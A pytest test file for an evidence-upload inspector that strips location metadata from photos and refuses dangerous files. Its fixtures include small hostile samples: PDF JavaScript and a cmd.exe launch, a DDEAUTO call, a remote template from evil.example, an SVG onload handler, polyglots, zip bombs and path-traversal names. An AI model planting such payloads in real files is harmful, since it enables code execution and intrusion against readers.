"""Evidence: looked at, made harmless, kept whole (S10)."""

import hashlib
import io
import os
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image, ImageFile, PngImagePlugin

from conversations.languages import LANGUAGES
from conversations.wording import catalogue
from storage.database.vault import Vault, VaultError
from storage.errors import NotFound, StorageError
from storage.reports.files import FileStore, answer_name, storage_key
from storage.reports.inspection import LONGEST_NAME, MAX_BYTES, REASONS, Inspected, inspect, safe_name
from storage.reports.refusals import Refused
from storage.unit_of_work import UnitOfWork

NOW = datetime(2018, 10, 3, 12, 0, tzinfo=UTC)
CANARY = b"18.4861"


def look(data: bytes, name: str = "", accept: Any = "file", **options: Any) -> Inspected | Refused:
    return inspect(data, claimed_name=name, claimed_mime=options.pop("mime", ""), accept=accept, **options)


def kept(data: bytes, name: str = "", accept: Any = "file", **options: Any) -> Inspected:
    found = look(data, name, accept, **options)
    assert isinstance(found, Inspected), found
    return found


def refusal(data: bytes, name: str = "", accept: Any = "file", **options: Any) -> str:
    found = look(data, name, accept, **options)
    return found.reason if isinstance(found, Refused) else f"kept as {found.mime_type}"


def drawn(image_format: str, size: tuple[int, int] = (64, 32), mode: str = "RGB", **options: Any) -> bytes:
    """A picture that is red on the left and blue on the right."""
    picture = Image.new("RGB", size, (200, 0, 0))
    picture.paste((0, 0, 200), (size[0] // 2, 0, size[0], size[1]))
    file = io.BytesIO()
    picture.convert(mode).save(file, image_format, **options)
    return file.getvalue()


def with_gps(image_format: str = "JPEG", orientation: int = 1) -> bytes:
    """A picture that tells where it was taken, by which phone, and in three ways more."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "PhoneMaker"
    exif[0x8825] = {1: "N", 2: (18.0, 28.0, 9.0), 3: "W", 4: (69.0, 53.0, 2.0)}
    options: dict[str, Any] = {"exif": exif.tobytes()}
    match image_format:
        case "JPEG":
            options |= {"comment": CANARY, "xmp": b"<x:xmpmeta>" + CANARY + b"</x:xmpmeta>", "icc_profile": CANARY * 20}
        case "PNG":
            text = PngImagePlugin.PngInfo()
            text.add_text("Comment", CANARY.decode())
            text.add_itxt("XML:com.adobe.xmp", CANARY.decode())
            options |= {"pnginfo": text}
        case "WEBP":
            options |= {"xmp": CANARY}
    return drawn(image_format, **options)


def zipped(parts: dict[str, bytes], **options: Any) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content, **options)
    return file.getvalue()


PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
TEMPLATE = (
    b"""<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>"""
)
NEAR = b"""<Relationships>
<Relationship Type="http://x/attachedTemplate" Target="file:///C:/Normal.dotm" TargetMode="External"/>
<Relationship Type="http://x/hyperlink" Target="https://mujer.gob.do" TargetMode="External"/></Relationships>"""


def pdf(thing: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj\n" + thing + b"\nendobj\ntrailer\n<<>>\n%%EOF\n"


def packed(objects: bytes) -> bytes:
    """Objects as they are kept together, compressed."""
    return b"<</Type/ObjStm/N 1/First 4>>stream\n" + zlib.compress(b"4 0 " + objects) + b"\nendstream"


DOCX = zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})
XLSX = zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"})
ODT = zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<c/>"}, compress_type=0)
JAR = zipped({"META-INF/MANIFEST.MF": b"", "A.class": b"\xca\xfe\xba\xbe"})
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
MP4 = (
    struct.pack(">I", 24) + b"ftypmp42\0\0\0\0mp42isom" + struct.pack(">I", 40) + b"moov\0\0\0\x20\xa9xyz\0\x12\x15\xc7"
    b"+18.4861-069.9312/" + bytes(4)
)
OGG = b"OggS\0\x02" + bytes(200)


def claiming(width: int, height: int) -> bytes:
    """A PNG of a hundred bytes that says how large it is."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


# ------------------------------------------------------------------ pictures
@pytest.mark.parametrize("image_format", ["JPEG", "PNG", "WEBP", "TIFF"])
def test_no_picture_keeps_where_it_was_taken(image_format: str) -> None:
    """What is stored holds pixels and nothing else."""
    sent = with_gps(image_format)
    assert b"PhoneMaker" in sent
    assert Image.open(io.BytesIO(sent)).getexif().get_ifd(0x8825)
    found = kept(sent, "foto", "image")
    stored = Image.open(io.BytesIO(found.data))
    assert not stored.getexif().get_ifd(0x8825)
    assert 0x010F not in stored.getexif()
    assert not {"exif", "xmp", "icc_profile", "comment", "Comment", "photoshop"} & stored.info.keys()
    assert CANARY not in found.data
    assert b"PhoneMaker" not in found.data


def test_both_hashes_tell_what_came_and_what_is_kept() -> None:
    """Whoever sent the original can still prove it."""
    sent = with_gps()
    found = kept(sent, "foto.jpg", "image")
    assert found.original_sha256 == hashlib.sha256(sent).hexdigest()
    assert found.sha256 == hashlib.sha256(found.data).hexdigest()
    assert found.sha256 != found.original_sha256
    assert found.size == len(found.data)


@pytest.mark.parametrize("orientation", [1, 3, 6, 8])
def test_a_picture_is_turned_upright_before_its_orientation_is_forgotten(orientation: int) -> None:
    """A portrait must not lie on its side for want of a tag."""
    upright = Image.open(io.BytesIO(kept(with_gps("JPEG", orientation), accept="image").data)).convert("RGB")
    turned = orientation in (6, 8)
    assert upright.size == ((32, 64) if turned else (64, 32))
    red_at = {1: (2, 16), 3: (61, 16), 6: (16, 2), 8: (16, 61)}[orientation]
    red, _, blue = upright.getpixel(red_at)
    assert red > 120 > blue


@pytest.mark.parametrize(
    ("image_format", "expected"), [("GIF", "png"), ("BMP", "png"), ("AVIF", "jpg"), ("PNG", "png")]
)
def test_rare_formats_are_kept_as_common_ones(image_format: str, expected: str) -> None:
    """A reviewer can open what is stored."""
    assert kept(drawn(image_format), accept="image").extension == expected


@pytest.mark.parametrize("mode", ["1", "L", "P", "RGBA", "LA", "CMYK", "I;16"])
def test_pictures_of_every_colour_mode_survive(mode: str) -> None:
    """Scans are grey, logos have palettes, presses use four inks."""
    image_format = "TIFF" if mode in ("CMYK", "I;16") else "PNG"
    source = Image.new("L", (8, 8)).convert("I").convert(mode) if mode == "I;16" else None
    if source is not None:
        file = io.BytesIO()
        source.save(file, image_format)
        data = file.getvalue()
    else:
        data = drawn(image_format, mode=mode)
    assert Image.open(io.BytesIO(kept(data, accept="image").data)).size in ((8, 8), (64, 32))


def test_the_longer_side_shrinks_to_what_the_form_asks_for() -> None:
    """max-pixels of the question."""
    found = kept(drawn("JPEG", (2000, 1000)), accept="image", max_pixels=500)
    assert Image.open(io.BytesIO(found.data)).size == (500, 250)
    small = kept(drawn("PNG"), accept="image", max_pixels=500)
    assert Image.open(io.BytesIO(small.data)).size == (64, 32)


def test_a_scan_of_several_pages_keeps_them_all() -> None:
    """A minute signed on page two is evidence too."""
    file = io.BytesIO()
    pages = [Image.new("L", (20, 30), shade) for shade in (0, 100, 200)]
    pages[0].save(file, "TIFF", save_all=True, append_images=pages[1:])
    assert Image.open(io.BytesIO(kept(file.getvalue(), "acta.tif").data)).n_frames == 3


def test_without_stripping_a_picture_keeps_its_bytes() -> None:
    """For whoever has already been asked."""
    sent = with_gps()
    assert kept(sent, accept="image", strip=False).data == sent


@pytest.mark.parametrize("size", [(50_000, 50_000), (2_000_000_000, 1), (9_000, 9_000)])
def test_a_pixel_bomb_is_refused_before_it_is_decoded(size: tuple[int, int], monkeypatch: pytest.MonkeyPatch) -> None:
    """A hundred bytes may claim seven gigabytes."""
    monkeypatch.setattr(ImageFile.ImageFile, "load", lambda *_: pytest.fail("it is decoded"))
    assert refusal(claiming(*size), "foto.png", "image") in ("too_many_pixels", "damaged")


def test_a_picture_that_stops_half_way_is_refused() -> None:
    """Half a photo proves nothing."""
    sent = drawn("JPEG", (400, 300))
    assert refusal(sent[: len(sent) // 2], "foto.jpg", "image") == "damaged"


# ------------------------------------------------------------------ what is refused
REFUSED: dict[str, tuple[Callable[[], bytes], str, str]] = {
    # what: bytes, name, reason
    "nothing": (lambda: b"", "a.pdf", "empty"),
    "over 20 MB": (lambda: PDF + bytes(MAX_BYTES), "a.pdf", "too_big"),
    "SVG": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "a.svg", "svg"),
    "SVG named as a photo": (lambda: b"<?xml version='1.0'?>\n<!-- x --><svg/>", "a.png", "svg"),
    "SVG in UTF-16": (lambda: "<svg/>".encode("utf-16"), "a.svg", "svg"),
    "HTML": (lambda: b"<!DOCTYPE html><p>", "a.pdf", "html"),
    "HTML after text": (lambda: b"informe\n<script>x()</script>", "a.txt", "html"),
    "other XML": (lambda: b"<?xml version='1.0'?><a/>", "a.xml", "unknown"),
    "Windows program": (lambda: b"MZ" + bytes(200), "informe.pdf", "executable"),
    "Linux program": (lambda: b"\x7fELF" + bytes(200), "", "executable"),
    "script": (lambda: b"#!/bin/sh\nrm x\n", "a.txt", "executable"),
    "script by name": (lambda: b"echo hola\n", "acta.pdf.bat", "executable"),
    "PHP": (lambda: b"<?php system('x');", "a.txt", "executable"),
    "Java archive": (lambda: JAR, "a.zip", "executable"),
    "zip": (lambda: zipped({"a.txt": b"x"}), "a.zip", "archive"),
    "rar": (lambda: b"Rar!\x1a\x07\0" + bytes(20), "a.rar", "archive"),
    "gzip": (lambda: b"\x1f\x8b\x08" + bytes(20), "a.svgz", "archive"),
    "GIF and Java archive (GIFAR)": (lambda: drawn("GIF") + JAR, "a.gif", "mixed"),
    "JPEG and zip": (lambda: drawn("JPEG") + DOCX, "a.jpg", "mixed"),
    "PDF and zip": (lambda: PDF + DOCX, "a.pdf", "mixed"),
    "GIF and PDF": (lambda: drawn("GIF", comment=b"%PDF-1.4 x"), "a.gif", "mixed"),
    "GIF and script": (lambda: drawn("GIF", comment=b"*/<script>x()</script>"), "a.gif", "mixed"),
    "PDF with a script": (lambda: pdf(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"), "a.pdf", "scripts"),
    "PDF with a script under another spelling": (lambda: pdf(b"<</S/Java#53cript/JS 4 0 R>>"), "a.pdf", "scripts"),
    "PDF that starts a program": (lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"), "a.pdf", "scripts"),
    "PDF with a file inside": (lambda: pdf(b"<</Names<</EmbeddedFiles 5 0 R>>>>"), "a.pdf", "attached"),
    "PDF with a script in a compressed object": (lambda: pdf(packed(b"<</S/JavaScript/JS(1)>>")), "a.pdf", "scripts"),
    "PDF of endless streams": (lambda: pdf(b"/a>>stream\n" * 30_000), "a.pdf", "unzips_too_far"),
    "PDF that cannot be looked at": (lambda: pdf(b"<</Encrypt 9 0 R>>"), "a.pdf", "password"),
    "document with a template elsewhere": (
        lambda: zipped({"word/document.xml": b"", "word/_rels/settings.xml.rels": TEMPLATE}),
        "a.docx",
        "remote",
    ),
    "document that calls a program": (
        lambda: zipped({"word/document.xml": b"<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"}),
        "a.docx",
        "remote",
    ),
    "workbook that calls a program": (
        lambda: zipped({"xl/workbook.xml": b"", "xl/externalLinks/externalLink1.xml": b"<ddeLink ddeService='cmd'/>"}),
        "a.xlsx",
        "remote",
    ),
    "document with an object": (
        lambda: zipped({"word/document.xml": b"", "word/embeddings/oleObject1.bin": b""}),
        "a.docx",
        "attached",
    ),
    "PDF with a photo that tells its place": (
        lambda: pdf(b"<</Filter/DCTDecode>>stream\n" + with_gps() + b"endstream"),
        "a.pdf",
        "place",
    ),
    "document with a photo that tells its place": (
        lambda: zipped({"word/document.xml": b"<w/>", "word/media/image1.jpeg": with_gps()}),
        "a.docx",
        "place",
    ),
    "document with a PNG that tells its place": (
        lambda: zipped({"word/document.xml": b"<w/>", "word/media/image1.png": with_gps("PNG")}),
        "a.docx",
        "place",
    ),
    "slides with a picture that tells its place": (
        lambda: zipped({"ppt/presentation.xml": b"<p/>", "ppt/media/image1.tiff": with_gps("TIFF")}),
        "a.pptx",
        "place",
    ),
    "document with a photo that tells its place in XMP": (
        lambda: pdf(b"stream\n<rdf:Description exif:GPSLatitude='18,29.1N'/>endstream"),
        "a.pdf",
        "place",
    ),
    "document with macros": (
        lambda: zipped({"word/document.xml": b"<w/>", "word/vbaProject.bin": b"x"}),
        "a.docx",
        "macros",
    ),
    "old document with macros": (lambda: OLE + "WordDocument_VBA_PROJECT".encode("utf-16-le"), "a.doc", "macros"),
    "document with a password": (lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "a.docx", "password"),
    "unknown OLE": (lambda: OLE, "a.msi.dat", "unknown"),
    "half a document": (lambda: DOCX[:60], "a.docx", "damaged"),
    "zip bomb": (lambda: zipped({"word/document.xml": bytes(60_000_000)}), "a.docx", "unzips_too_far"),
    "many entries": (lambda: zipped({f"word/{n}": b"" for n in range(10_050)}), "a.docx", "unzips_too_far"),
    "HEIC": (lambda: struct.pack(">I", 24) + b"ftypheic" + bytes(100), "IMG_1.HEIC", "heic"),
    "noise": (lambda: bytes(range(128, 256)) * 20 + bytes(99), "a.bin", "unknown"),
    "PDF named as a photo": (lambda: PDF, "foto.jpg", "wrong_extension"),
    "photo named as a PDF": (lambda: drawn("JPEG"), "acta.pdf", "wrong_extension"),
    "sheet named as a document": (lambda: XLSX, "acta.docx", "wrong_extension"),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_could_harm_who_opens_it_is_refused_and_says_why(what: str) -> None:
    """Bytes decide, never the name."""
    make, name, reason = REFUSED[what]
    assert refusal(make(), name) == reason


def test_a_document_whose_photos_tell_nothing_is_kept_as_it_came() -> None:
    photo = drawn("JPEG", comment=b"Exif\0\0II*\0 and then nothing that could be read")
    for data, name in (
        (zipped({"word/document.xml": b"<w/>", "word/media/image1.jpg": photo}), "a.docx"),
        (pdf(b"<</Filter/DCTDecode>>stream\n" + photo + b"endstream"), "a.pdf"),
    ):
        assert kept(data, name).data == data


@pytest.mark.parametrize(
    ("data", "name", "accept", "mime"),
    [(PDF, "a.pdf", "image", ""), (drawn("PNG"), "a.png", "audio", ""), (OGG, "a.ogg", "video", "audio/ogg")],
)
def test_a_question_takes_only_the_kind_it_asks_for(data: bytes, name: str, accept: str, mime: str) -> None:
    """A photo is no recording."""
    assert refusal(data, name, accept, mime=mime) == "wrong_kind"


def test_every_reason_has_a_sentence_in_every_language() -> None:
    """Nobody is refused without being told why."""
    for language in LANGUAGES:
        assert {f"file.{reason}" for reason in REASONS} <= catalogue(language).keys()


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from(
        [with_gps("JPEG"), with_gps("PNG"), with_gps("TIFF"), drawn("GIF"), drawn("BMP"), DOCX, ODT, MP4, PDF]
    ),
    st.lists(st.tuples(st.integers(0, 2**20), st.integers(0, 255)), max_size=8),
    st.binary(max_size=40),
    st.sampled_from(["image", "file"]),
)
def test_no_bytes_are_too_strange_to_be_inspected(
    data: bytes, changes: list[tuple[int, int]], tail: bytes, accept: str
) -> None:
    """Nothing raises, and what is kept says truly what it is."""
    broken = bytearray(data)
    for position, value in changes:
        broken[position % len(broken)] = value
    found = look(bytes(broken) + tail, "x", accept)
    if isinstance(found, Inspected):
        assert found.sha256 == hashlib.sha256(found.data).hexdigest()


# ------------------------------------------------------------------ what is kept
@pytest.mark.parametrize(
    ("data", "name", "mime_type", "extension"),
    [
        (PDF, "Acta.PDF", "application/pdf", "pdf"),
        (b"\xef\xbb\xbf" + PDF, "a.pdf", "application/pdf", "pdf"),
        (DOCX, "a.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "docx"),
        (XLSX, "a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx"),
        (ODT, "a.odt", "application/vnd.oasis.opendocument.text", "odt"),
        (OLE + "WordDocument".encode("utf-16-le"), "a.doc", "application/msword", "doc"),
        ("código;año\n1;ñ\n".encode(), "a.csv", "text/csv", "csv"),
        ("Informe de la campaña\n".encode("cp1252"), "a.txt", "text/plain", "txt"),
        (b'{"type": "Point"}', "a.geojson", "application/json", "geojson"),
        (b"{\\rtf1 hola}", "a.rtf", "application/rtf", "rtf"),
        (OGG, "voz.oga", "audio/ogg", "ogg"),
    ],
)
def test_documents_keep_every_byte(data: bytes, name: str, mime_type: str, extension: str) -> None:
    """Both hashes are the same."""
    found = kept(data, name)
    assert (found.mime_type, found.extension, found.data) == (mime_type, extension, data)
    assert found.sha256 == found.original_sha256


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (pdf(b"<</OpenAction[3 0 R/Fit]/URI(https://mujer.gob.do)>>"), "a.pdf"),
        (pdf(packed(b"<</Type/Catalog>>")), "a.pdf"),
        (pdf(b"<</Length 9>>stream\n(/JS 1) /JS\nendstream"), "a.pdf"),
        (
            zipped({"word/document.xml": b"<w:instrText>PAGE</w:instrText>", "word/_rels/document.xml.rels": NEAR}),
            "a.docx",
        ),
    ],
)
def test_a_document_that_only_shows_itself_is_kept(data: bytes, name: str) -> None:
    """Links that a reader follows, a template of the writer's own computer, and page numbers are harmless."""
    found = inspect(data, claimed_name=name, claimed_mime="", accept="file")
    assert isinstance(found, Inspected)
    assert found.data == data


def test_a_photo_under_another_photos_name_is_kept_as_what_it_is() -> None:
    """Phones rename PNG to .jpg all day."""
    found = kept(drawn("PNG"), "foto.jpg", "image")
    assert (found.mime_type, found.extension, found.original_name) == ("image/png", "png", "foto.jpg")


def test_a_video_forgets_where_it_was_filmed() -> None:
    """The coordinates are zeros of the same length, so that the file still plays."""
    found = kept(MP4, "v.mp4", "video")
    assert b"+00.0000-000.0000/" in found.data
    assert len(found.data) == len(MP4)


def test_sound_in_a_container_of_video_is_sound() -> None:
    """Many phones record voice into MP4."""
    assert kept(MP4, "v.mp4", "audio", mime="audio/mp4").mime_type == "video/mp4"


# ------------------------------------------------------------------ names
@pytest.mark.parametrize(
    ("sent", "expected"),
    [
        ("Campaña niñas.pdf", "Campaña niñas.pdf"),
        ("Campan\u0303a.pdf", "Campaña.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\ana\\acta.docx", "acta.docx"),
        ("acta\u202efdp.exe", "actafdp.exe"),
        ("a\0b\nc\u200b.pdf", "ab c.pdf"),
        ('a<b>:"|?*.pdf', "a_b______.pdf"),
        ("  acta  final .pdf. ", "acta final.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("...", ""),
        ("", ""),
    ],
)
def test_a_name_is_made_safe_and_keeps_its_letters(sent: str, expected: str) -> None:
    """ñ is a letter; a path is not a name."""
    assert safe_name(sent) == expected


@given(st.text(max_size=300))
def test_no_name_leads_elsewhere(sent: str) -> None:
    """At most 120 characters, no separators, nothing invisible, and safe already when made safe."""
    name = safe_name(sent)
    assert len(name) <= LONGEST_NAME
    assert not set(name) & set('/\\<>:"|?*\0\n\u202e\u200b')
    assert name not in (".", "..")
    assert safe_name(name) == name


def test_a_file_without_a_name_gets_one() -> None:
    """Photos of Telegram have none."""
    assert kept(drawn("JPEG"), "", "image").original_name == "file.jpg"


def test_the_name_in_an_answer_is_that_of_its_question() -> None:
    """Unique within the instance, safe in any file system."""
    sha = "1a2b3c4d" + "0" * 56
    assert answer_name("/data/g/evidence_photo", sha, "jpg") == "evidence_photo-1a2b3c4d.jpg"
    assert answer_name("/data/kid[2]/año[1]", sha, "png") == "ao-1a2b3c4d.png"
    assert answer_name("/data/p", sha, "png", {"p-1a2b3c4d.png"}) == "p-1a2b3c4d-2.png"


# ------------------------------------------------------------------ on disk
@pytest.fixture
def store(tmp_path: Path, vault: Vault) -> FileStore:
    return FileStore(tmp_path / "evidence", vault)


@pytest.mark.parametrize("sensitive", [False, True])
def test_what_is_put_is_got_and_stored_once(store: FileStore, tmp_path: Path, sensitive: bool) -> None:
    """A file is named by its content, readable by its owner alone."""
    key = store.put(PDF, sensitive)
    assert store.put(PDF, sensitive) == key
    assert store.get(key) == PDF
    assert list(store.keys()) == [key]
    [path] = [p for p in (tmp_path / "evidence").rglob("*") if p.is_file()]
    assert path.stat().st_mode & 0o777 == 0o600
    assert (PDF in path.read_bytes()) is not sensitive
    store.delete(key)
    store.delete(key)
    with pytest.raises(NotFound):
        store.get(key)


def test_an_altered_or_moved_file_is_not_taken_for_the_stored_one(store: FileStore, tmp_path: Path) -> None:
    """Evidence that was changed on disk must not look like evidence."""
    plain, sealed, other = store.put(PDF, False), store.put(PDF, True), store.put(DOCX, True)
    root = tmp_path / "evidence"
    (root / plain).write_bytes(PDF + b" ")
    with pytest.raises(StorageError):
        store.get(plain)
    (root / sealed).write_bytes((root / other).read_bytes())
    with pytest.raises(VaultError):
        store.get(sealed)


@pytest.mark.parametrize("key", ["../keyring.json", "plain/../../keyring.json", "/etc/hostname", "", "plain/aa/x"])
def test_a_key_leads_nowhere_else(store: FileStore, key: str) -> None:
    """A key is data."""
    with pytest.raises(NotFound):
        store.get(key)
    with pytest.raises(NotFound):
        store.delete(key)


def test_a_write_that_fails_leaves_nothing(store: FileStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Disk full at the worst moment: no half file under a whole file's name."""

    def fail(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", fail)
    with pytest.raises(OSError):
        store.put(PDF, False)
    assert not [p for p in (tmp_path / "evidence").rglob("*") if p.is_file()]


def test_sensitive_files_are_refused_without_a_keyring(tmp_path: Path) -> None:
    """Never in the clear for want of a key."""
    with pytest.raises(StorageError):
        FileStore(tmp_path, None).put(PDF, True)


def test_a_sweep_removes_what_nobody_names_and_spares_what_is_young(store: FileStore, tmp_path: Path) -> None:
    """What a crash left between storing and attaching does not stay for ever."""
    named, orphan = store.put(PDF, False), store.put(DOCX, True)
    assert store.sweep({named}, datetime.now(UTC) - timedelta(hours=1)) == 0
    old = time.time() - 7200
    for key in (named, orphan):
        os.utime(tmp_path / "evidence" / key, (old, old))
    assert store.sweep({named}, datetime.now(UTC) - timedelta(hours=1)) == 1
    assert list(store.keys()) == [named]


def test_resealing_brings_files_under_the_current_key(tmp_path: Path) -> None:
    """After a rotation the old key can be retired."""
    ring = tmp_path / "ring.json"
    old = Vault.create(ring)
    key = FileStore(tmp_path / "evidence", old).put(PDF, True)
    rotated = FileStore(tmp_path / "evidence", Vault.rotate(ring))
    assert rotated.reseal() == 1
    assert rotated.reseal() == 0
    assert FileStore(tmp_path / "evidence", Vault.retire(ring, old.current)).get(key) == PDF


# ------------------------------------------------------------------ who it belongs to
def attach(
    unit: UnitOfWork, plan_id: int, ref: str, data: bytes = PDF, instance: str = "uuid:1", **options: Any
) -> Any:
    values: dict[str, Any] = {"sensitive": False, "is_compressed": False, "now": NOW}
    return unit.attachments.add(
        plan_id=plan_id, instance_id=instance, ref=ref, inspected=kept(data, "Acta ñ.pdf"), **values | options
    )


def test_an_answer_has_one_file_and_names_are_unique(apply: Any, world: Any) -> None:
    """Sending another replaces it; the same content in two repeats has two names."""

    def work(unit: UnitOfWork) -> None:
        first = attach(unit, world.plan_id, "/data/kid[1]/photo")
        second = attach(unit, world.plan_id, "/data/kid[2]/photo")
        assert first.file_name == f"photo-{first.sha256[:8]}.pdf"
        assert second.file_name == f"photo-{first.sha256[:8]}-2.pdf"
        again = attach(unit, world.plan_id, "/data/kid[1]/photo", PDF + b"\n", sensitive=True, is_compressed=True)
        assert unit.attachments.of_instance("uuid:1") == [second, again]
        assert unit.attachments.find("uuid:1", again.file_name) == again
        assert again.original_name == "Acta ñ.pdf"
        assert again.key == storage_key(again.sha256, sensitive=True)
        assert unit.attachments.keys() == {second.key, again.key}
        with pytest.raises(NotFound):
            unit.attachments.find("uuid:1", "other.pdf")

    apply(work)


def test_a_content_is_let_go_only_when_nobody_names_it(apply: Any, world: Any) -> None:
    """A correction shares the files of what it corrects."""

    def work(unit: UnitOfWork) -> None:
        attachment = attach(unit, world.plan_id, "/data/photo")
        assert unit.attachments.copy("uuid:1", "uuid:2", NOW) == 1
        [copied] = unit.attachments.of_instance("uuid:2")
        assert copied.file_name == attachment.file_name
        assert unit.attachments.remove("uuid:1", "/data/photo") == ()
        assert unit.attachments.remove("uuid:1", "/data/photo") == ()
        assert unit.attachments.remove("uuid:2") == (attachment.key,)
        assert unit.attachments.keys() == frozenset()

    apply(work)


def test_files_follow_repeats_that_were_renumbered(apply: Any, world: Any) -> None:
    """When the first child is removed the second becomes the first, with its photo."""

    def work(unit: UnitOfWork) -> None:
        attach(unit, world.plan_id, "/data/kid[2]/photo")
        attach(unit, world.plan_id, "/data/kid[3]/photo")
        unit.attachments.move(
            "uuid:1", {"/data/kid[2]/photo": "/data/kid[1]/photo", "/data/kid[3]/photo": "/data/kid[2]/photo"}
        )
        assert [a.ref for a in unit.attachments.of_instance("uuid:1")] == ["/data/kid[1]/photo", "/data/kid[2]/photo"]

    apply(work)
